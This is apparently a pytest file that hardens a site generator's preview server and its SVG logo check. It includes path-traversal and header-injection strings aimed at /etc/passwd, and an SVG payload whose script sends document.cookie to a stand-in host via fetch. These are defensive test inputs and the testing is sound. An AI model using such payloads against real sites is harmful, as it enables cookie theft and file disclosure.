"""`serve` meets odd paths, clients that hang up and 200 clients at once: an answer for each,
never a traceback, and a Content-Security-Policy on every response that still lets the
site's search and the live reload work."""

from __future__ import annotations

import http.client
import random
import shutil
import socket
import threading
import time
import urllib.parse

import pytest
from conftest import TODAY
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import expect
from test_preview import start, stop

from mentorbook.base.paths import SAMPLE_WORKBOOK
from mentorbook.live.preview import CONTENT_SECURITY_POLICY, HOST, STATUS_PATH
from mentorbook.pipeline import BuildOptions

ODD = ["/%00", "/%ed%a0%80.html", "/index.html%00", "/%ff%fe.html", "/..%2f..%2f..%2fetc%2fpasswd", "/../../etc/passwd",
       "//etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/%c0%ae%c0%ae/", "/index.html?q=%00", "/%", "/%zz",
       "/%e2%80%ae.html",
       "/" + "a" * 5000, "/" + "a/" * 1500, "/assets/../../../etc/passwd", "/index.html/", "/.mentorbook-manifest.json",
       "/\\..\\..\\etc\\passwd", "/%5c..%5c..%5cetc%5cpasswd", "/index.html#%00", "/%0d%0aSet-Cookie:%20x=1",
       "/con.html", "/nul", "/%20", "/.", "/..", "/./index.html"]


@pytest.fixture(scope="module")
def preview(tmp_path_factory):
    folder = tmp_path_factory.mktemp("serve")
    workbook = folder / "me.yml"
    shutil.copy(SAMPLE_WORKBOOK, workbook)
    server, thread, messages = start(BuildOptions(workbook=workbook, out_dir=folder / "out", today=TODAY))
    server.messages = messages
    server.workbook = workbook
    yield server
    stop(server, thread)


def request(server, path: str, method: str = "GET") -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection(HOST, server.port, timeout=30)
    connection.putrequest(method, path, skip_accept_encoding=True)
    connection.endheaders()
    response = connection.getresponse()
    response.body = response.read()
    connection.close()
    return response


def quiet(server, capsys) -> None:
    """Nothing was printed: no traceback on stderr, no failed request among the server's messages."""
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out, captured.err
    assert not [m for m in server.messages if "could not be answered" in m or "Traceback" in m], server.messages


def odd_paths() -> list[str]:
    rng = random.Random(24)
    paths = list(ODD)
    while len(paths) < 200:
        raw = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 12)))
        paths.append("/" + urllib.parse.quote(raw, safe="/.%") + rng.choice(["", ".html", "/", "%00", "%ed%b0%80"]))
    return paths


def test_two_hundred_odd_paths_each_get_an_answer_and_no_traceback(preview, capsys):
    statuses = {}
    for path in odd_paths():
        response = request(preview, path)
        statuses[path] = response.status
        assert response.status in (200, 204, 301, 400, 403, 404, 414), (path, response.status)
        assert response.getheader("Content-Security-Policy") == CONTENT_SECURITY_POLICY, path
        assert b"root:x:0:0" not in response.body
    assert statuses["/%00"] == statuses["/%ed%a0%80.html"] == statuses["/index.html%00"] == 404
    quiet(preview, capsys)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.one_of(st.text(max_size=30).map(lambda t: "/" + urllib.parse.quote(t, safe="/%.?#&=",
                                                                            errors="surrogatepass")),
                 st.binary(max_size=30).map(lambda b: "/" + urllib.parse.quote(b, safe="/."))))
def test_any_request_path_gets_an_answer(preview, capsys, path):
    response = request(preview, path)
    assert response.status in (200, 204, 301, 400, 403, 404, 414), (path, response.status)
    assert response.getheader("Content-Security-Policy") == CONTENT_SECURITY_POLICY
    quiet(preview, capsys)


def test_clients_that_hang_up_leave_no_traceback(preview, capsys):
    for send in (b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", b"GET /assets/fonts/", b"GE", b""):
        for _ in range(5):
            sock = socket.create_connection((HOST, preview.port), timeout=5)
            if b"%d" in send:
                sock.sendall(send % preview.port)
            else:
                sock.sendall(send)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")  # RST
            sock.close()
    assert request(preview, "/index.html").status == 200
    time.sleep(0.5)
    quiet(preview, capsys)


def test_every_kind_of_response_carries_the_policy(preview):
    for path, code in (("/index.html", 200), (STATUS_PATH, 200), ("/nowhere.html", 404), ("/favicon.ico", 204),
                       ("/assets/style.css", 200)):
        response = request(preview, path)
        assert response.status == code, path
        assert response.getheader("Content-Security-Policy") == CONTENT_SECURITY_POLICY, path
        assert response.getheader("X-Content-Type-Options") == "nosniff"
    assert request(preview, "/index.html", "HEAD").getheader("Content-Security-Policy") == CONTENT_SECURITY_POLICY


def test_two_hundred_clients_at_once_are_all_answered(preview):
    count = 200
    barrier = threading.Barrier(count)
    results: list[int] = []
    lock = threading.Lock()

    def client():
        barrier.wait(30)
        status = request(preview, "/index.html").status
        with lock:
            results.append(status)

    threads = [threading.Thread(target=client) for _ in range(count)]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(90)
    assert results == [200] * count, (len(results), set(results))
    assert time.monotonic() - started < 90


def test_search_and_live_reload_work_under_the_policy(browser, preview):
    page = browser.new_page()
    problems: list[str] = []
    page.on("console", lambda msg: problems.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: problems.append(str(exc)))
    page.goto(preview.url + "index.html")
    page.locator("#search-input").press_sequentially("SMART")
    page.wait_for_selector("#search-results a", timeout=10000)
    text = preview.workbook.read_text()
    preview.workbook.write_text(text.replace("name: Dr. Lena Marchetti", "name: Dr. Lena Marchetti-Okafor"))
    try:
        expect(page.locator("main h1")).to_have_text("Dr. Lena Marchetti-Okafor", timeout=30000)
    finally:
        preview.workbook.write_text(text)
    # the reloaded page's fonts, once loaded (a look right after the reload may come before them)
    fonts = page.evaluate("document.fonts.load('16px \"Noto Sans\"').then(faces => faces.length > 0"
                          " && faces.every(f => f.status === 'loaded')"
                          " && document.fonts.check('16px \"Noto Sans\"'))")
    page.close()
    assert fonts, "the site's own fonts load"
    assert problems == [], problems  # a script, style or font the policy blocked is a console error


# --- SVG logos are published with the site: nothing in them may run --------------------------------

EVIL_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"
     onload="alert(document.cookie)">
  <script>fetch('https://example.com/?' + document.cookie)</script>
  <a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <image href="https://tracker.example/pixel.png"/>
  <set attributeName="onmouseover" to="alert(1)"/>
</svg>
"""


def test_an_svg_logo_that_could_run_code_is_refused_at_build_time(tmp_path, capsys):
    from conftest import EXAMPLE_PROGRAM

    from mentorbook.cli import main

    project = tmp_path / "program"
    shutil.copytree(EXAMPLE_PROGRAM, project)
    logo = project / "assets" / "harbor-view-logo.svg"
    logo.write_text(EVIL_LOGO, encoding="utf-8")
    assert main(["build", "--project", str(project), "--out", str(tmp_path / "out"), "--format", "html", "-q"]) == 2
    err = capsys.readouterr().err
    for where, what in (("1:1", "<svg> has an event handler, onload"), ("3:3", "<script> element"),
                        ("4:3", "<a> has javascript: in its href"), ("5:3", "<foreignObject> element"),
                        ("6:3", "links to 'https://tracker.example/pixel.png'"),
                        ("7:3", "<set> changes 'onmouseover'")):
        assert f"{logo}:{where}: error: " in err and what in err, (where, what, err)
    assert not (tmp_path / "out" / "site").exists(), "nothing published"


def test_a_plain_svg_logo_is_welcome():
    from conftest import EXAMPLE_PROGRAM

    from mentorbook.base.markup import svg_problems

    assert svg_problems(EXAMPLE_PROGRAM / "assets" / "harbor-view-logo.svg") == []
